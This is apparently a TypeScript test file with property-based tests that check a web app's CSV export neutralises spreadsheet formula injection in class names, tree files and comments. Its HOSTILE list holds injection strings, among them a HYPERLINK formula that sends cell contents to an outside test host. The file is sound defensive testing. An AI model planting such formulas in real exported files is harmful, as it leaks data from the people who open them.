import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { clustersCsv } from '../../../web/app/clusters/rows.ts';
import { asComments } from '../../../web/app/export/provenance.ts';
import { spreadsheetText, textOfCell } from '../../../web/base/spreadsheet-text.ts';
import { readClasses } from '../../../web/data/dataset/classes.ts';
import { csvField, csvRecords } from '../../../web/hierarchy/csv.ts';
import { readParents, writeParents } from '../../../web/hierarchy/parents.ts';
import { caterpillar } from '../hierarchy/trees.ts';

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '=HYPERLINK("http://x.test?"&A1,"click")',
  'plain,=1+1',
  'plain;=1+1',
];
const PLAIN = ['shark', "rock 'n' roll", '-1.5', '+3', '1e-5', 'a=b', "'quoted'", 'x-ray', ''];

/** What a spreadsheet program sees: the cells of a line, parted at commas, or at semicolons. */
const cellsOf = (csv: string): string[] => csvRecords(csv).flat();

describe('names of classes that look like formulas', () => {
  test.each(HOSTILE.map((name) => [name]))(
    '%j is text in a spreadsheet, and the same name when it is read again',
    (name) => {
      for (const cell of cellsOf(`${csvField(name)},1\n`)) expect(cell).not.toMatch(/^\s*["]?\s*[=+\-@＝]|^[\t\r\n]/);
      expect(textOfCell(cellsOf(`${csvField(name)}\n`)[0] ?? '')).toBe(name);
    },
  );

  test.each(PLAIN.map((name) => [name]))('%j stays as it is', (name) => {
    expect(spreadsheetText(name)).toBe(name);
    expect(textOfCell(name)).toBe(name);
  });

  test('any text comes back', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(fc.constantFrom("'", '"', '=', '+', '-', '@', '\t', '\r', '1', 'a', ' ')).map((all) => all.join('')),
    );
    fc.assert(fc.property(text, (name) => textOfCell(spreadsheetText(name)) === name));
  });

  test('a tree as child,parent keeps them', () => {
    const classes = HOSTILE;
    const written = writeParents({ hierarchy: caterpillar(classes.length - 1), classes });
    for (const cell of cellsOf(written)) expect(cell).not.toMatch(/^["\s]*[=+\-@＝]/);
    expect(readParents(written).classes.toSorted()).toEqual(classes.toSorted());
  });

  test('a table of clusters, opened as classes, gives them their names', () => {
    const classes = ['=1+1', '-2+3', 'oak'];
    const rows = [{ classes: [0, 2] }, { classes: [1] }] as unknown as Parameters<typeof clustersCsv>[0]['rows'];
    const [header = [], ...records] = csvRecords(clustersCsv({ rows, names: ['@two', 'one'] }, classes));
    const columns = header.map((_, column) => records.map((record) => record[column] ?? ''));
    const found = readClasses({ kind: 'records', header, columns }, 'clusters.csv');
    expect(found.names).toEqual(['=1+1', 'oak', '-2+3']);
    expect(found.groupings).toContainEqual({ name: 'name', values: ['@two', '@two', 'one'] });
  });

  test('a file name in the comments above a table is no formula either', () => {
    expect(asComments(['labels: a,=1+1.npy', 'score=sum, empty=skip'])).toBe(
      "# labels: a,'=1+1.npy\n# score=sum, empty=skip\n",
    );
  });
});
